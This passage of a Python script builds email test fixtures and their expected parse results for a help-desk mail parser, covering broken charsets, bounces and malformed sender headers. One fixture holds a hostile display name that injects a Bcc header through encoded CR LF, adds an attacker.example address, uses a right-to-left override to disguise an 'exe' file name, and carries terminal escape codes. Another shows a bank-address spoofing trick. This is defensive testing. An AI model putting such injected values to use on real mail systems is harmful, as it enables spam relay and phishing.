        + b"\nDelivery to gone@example.com failed permanently: mailbox unavailable.\n\n"
        + f"--{boundary}\n".encode()
        + headers(("Content-Type", "message/delivery-status"))
        + b"\n"
        + enc(status, "ascii")
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(("Content-Type", "text/rfc822-headers"))
        + b"\n"
        + enc(original, "ascii")
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "",
        subject,
        ["failed permanently"],
        automatic=True,
        bounce=True,
        bounced_message_id="<reply-4821.2@example.org>",
        from_name="MAILER-DAEMON",
    )


def sender_unquoted_name():
    subject = "Volunteer badge"
    text = "Hello,\n\nmy volunteer badge has the wrong name on it. Can you print another?\n\nTest\n"
    data = _plain_note(
        [("From", "Test test@example.com")], subject, text, "<unquoted.0001@example.com>"
    )
    return data, facts("test@example.com", subject, ["wrong name on it"], from_name="Test")


def sender_stray_quotes():
    subject = "Parking at the warehouse"
    text = "Hi,\n\nis there parking at the warehouse on Saturdays?\n\nJoe\n"
    data = _plain_note(
        [("From", '"Joe Bloggs" <"joe.bloggs@example.org">')],
        subject,
        text,
        "<stray-quotes.0001@example.org>",
    )
    return data, facts(
        "joe.bloggs@example.org", subject, ["parking at the warehouse"], from_name="Joe Bloggs"
    )


def sender_unclosed_bracket():
    subject = "Donation receipt"
    text = "Good morning,\n\ncould you send the receipt for my donation again?\n\nPriya\n"
    data = _plain_note(
        [("From", "Priya Nair <priya.nair@example.in")],
        subject,
        text,
        "<unclosed.0001@example.in>",
    )
    return data, facts(
        "priya.nair@example.in", subject, ["receipt for my donation"], from_name="Priya Nair"
    )


def sender_bracket_first():
    subject = "Training dates"
    text = "Hello,\n\nwhen are the next training dates for new drivers?\n\nOle\n"
    data = _plain_note(
        [("From", "<ole.hansen@example.no> Ole Hansen")],
        subject,
        text,
        "<bracket-first.0001@example.no>",
    )
    return data, facts(
        "ole.hansen@example.no", subject, ["next training dates"], from_name="Ole Hansen"
    )


def sender_name_is_an_address():
    # The display name is an address (a phishing trick); replies go to the one in brackets.
    subject = "Cambio de dirección"
    text = "Hola:\n\nhe cambiado de dirección; ¿pueden actualizar mis datos?\n\nMaría\n"
    data = _plain_note(
        [("From", '"support@bank.example" <maria.lopez@example.es>')],
        ew(subject, "utf-8", q=True),
        text,
        "<name-address.0001@example.es>",
    )
    return data, facts(
        "maria.lopez@example.es",
        subject,
        ["actualizar mis datos"],
        from_name="support@bank.example",
    )


def sender_hostile_name():
    # Raw control characters, then encoded words that decode to CR LF, a comma, angle brackets
    # around another address and a right-to-left override, then 3,000 characters of name.
    hidden = ew("Eve, <eve@attacker.example>\r\nBcc: all@example.org \u202egnp.exe", "utf-8")
    name = "Ev\x07e\x1b[31m " + hidden + "\n " + "A" * 3000
    # Control and reordering characters gone, one line, cut to 200 characters.
    cleaned = "Eve[31m Eve, <eve@attacker.example> Bcc: all@example.org gnp.exe " + "A" * 200
    subject = "Question about the food bank"
    text = "Hello,\n\nwhat can I bring to the food bank this week?\n\nEve\n"
    data = _plain_note(
        [("From", f"{name} <eve.real@example.com>")],
        subject,
        text,
        "<hostile-name.0001@example.com>",
    )
    return data, facts(
        "eve.real@example.com",
        subject,
        ["bring to the food bank"],
        from_name=cleaned[:200],
    )


def sender_none():
    # A name and no address anywhere (the sender's script never set one): a ticket with no
    # reply address, not quarantine.
    subject = "Lost property"
    text = "Hello,\n\nI left a blue umbrella at the community kitchen on Friday.\n\nHanna\n"
    data = _plain_note(
        [("From", "Hanna Virtanen")],
        subject,
        text,
        "<no-address.0001@example.fi>",
    )
    return data, facts("", subject, ["blue umbrella"], from_name="Hanna Virtanen")


MESSAGES = {
    "charset-koi8r.eml": charset_koi8r,
    "charset-koi8r-mislabeled.eml": charset_koi8r_mislabeled,
    "charset-iso2022jp.eml": charset_iso2022jp,
    "charset-shiftjis.eml": charset_shiftjis,
    "charset-gb2312.eml": charset_gb2312,
    "charset-big5.eml": charset_big5,
    "charset-windows1256.eml": charset_windows1256,
    "charset-latin1-as-utf8.eml": charset_latin1_as_utf8,
    "charset-missing.eml": charset_missing,
    "charset-unknown-name.eml": charset_unknown_name,
    "html-only.eml": html_only,
    "html-alternative.eml": html_alternative,
    "rfc2231-filename.eml": rfc2231_filename,
    "rfc2047-filename.eml": rfc2047_filename,
    "tnef-winmail.eml": tnef_winmail,
    "nested-rfc822.eml": nested_rfc822,
    "nested-rfc822-broken.eml": nested_rfc822_broken,
    "dsn-bounce.eml": dsn_bounce,
    "out-of-office.eml": out_of_office,
    "precedence-bulk.eml": precedence_bulk,
    "missing-message-id.eml": missing_message_id,
    "header-only.eml": header_only,
    "no-from.eml": no_from,
    "missing-boundary.eml": missing_boundary,
    "bare-lf.eml": bare_lf,
    "long-header-lines.eml": long_header_lines,
    "reply-quoted-gmail-fr.eml": reply_quoted_gmail_fr,
    "reply-quoted-outlook-pt.eml": reply_quoted_outlook_pt,
    "reply-quoted-outlook-de.eml": reply_quoted_outlook_de,
    "signature-ru.eml": signature_ru,
    "arf-feedback.eml": arf_feedback,
    "dsn-delayed.eml": dsn_delayed,
    "text-bounce-qmail.eml": text_bounce_qmail,
    "sender-mailer-daemon-bare.eml": sender_mailer_daemon_bare,
    "sender-unquoted-name.eml": sender_unquoted_name,
    "sender-stray-quotes.eml": sender_stray_quotes,
    "sender-unclosed-bracket.eml": sender_unclosed_bracket,
    "sender-bracket-first.eml": sender_bracket_first,
    "sender-name-is-an-address.eml": sender_name_is_an_address,
    "sender-hostile-name.eml": sender_hostile_name,
    "sender-none.eml": sender_none,
}
sys.path.insert(0, str(HERE))
from crafted import CRAFTED  # noqa: E402 - mail crafted to stall a parser (README)

MESSAGES.update(CRAFTED)


# --------------------------------------------------------------------------
# the 30 MiB attachment, made on demand only
# --------------------------------------------------------------------------

LARGE_SIZE = 30 * 1024 * 1024


def large_attachment(path) -> None:
    """Write large-attachment.eml to `path`: a short note plus a 30 MiB
    base64 "video.mp4" of random.Random(42) bytes (identical on every run)."""
    boundary = "----=_Part_30MiB_4242424242"
    head = headers(
        ("From", "Noah Fischer <noah.fischer@example.ch>"),
        ("To", HELP),
        ("Subject", "Video from the charity run"),
        ("Date", "Sat, 15 Mar 2025 18:00:00 +0100"),
        ("Message-ID", "<large-attachment.30mib@example.ch>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{boundary}"'),
    )
    note = (
        "Hello,\n"
        "\n"
        "Here is the video I recorded at the charity run last Sunday.\n"
        "Feel free to use it on the website or in the next newsletter.\n"
        "\n"
        "Noah\n"
    )
    data = random.Random(42).randbytes(LARGE_SIZE)
    with open(path, "wb") as out:
        out.write(
            crlf(
                head
                + b"\n"
                + f"--{boundary}\n".encode()
                + headers(
                    ("Content-Type", "text/plain; charset=us-ascii"),
                    ("Content-Transfer-Encoding", "7bit"),
                )
                + b"\n"
                + enc(note, "ascii")
                + b"\n"
                + f"--{boundary}\n".encode()
                + headers(
                    ("Content-Type", 'video/mp4; name="video.mp4"'),
                    ("Content-Disposition", 'attachment; filename="video.mp4"'),
                    ("Content-Transfer-Encoding", "base64"),
                )
                + b"\n"
            )
        )
        step = 57 * 20000  # whole 76-character lines per chunk
        for start in range(0, len(data), step):
            out.write(crlf(b64(data[start : start + step])))
        out.write(crlf(b"\n" + f"--{boundary}--\n".encode()))


# --------------------------------------------------------------------------


def build() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    expected = {}
    for name, make in MESSAGES.items():
        files[name], expected[name] = make()
    files["expected.json"] = (
        json.dumps(expected, ensure_ascii=False, indent=2, sort_keys=True) + "\n"
    ).encode("utf-8")
    return files


def main(argv: list[str]) -> int:
    if argv[:1] == ["--large"] and len(argv) == 2:
        large_attachment(argv[1])
        return 0
    files = build()
    if argv == ["--check"]:
        stale = [
            name
            for name, data in files.items()
            if not (HERE / name).is_file() or (HERE / name).read_bytes() != data
        ]
        for name in stale:
            print(f"differs: {name}", file=sys.stderr)
        return 1 if stale else 0
    if argv:
        print(__doc__, file=sys.stderr)
        return 2
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
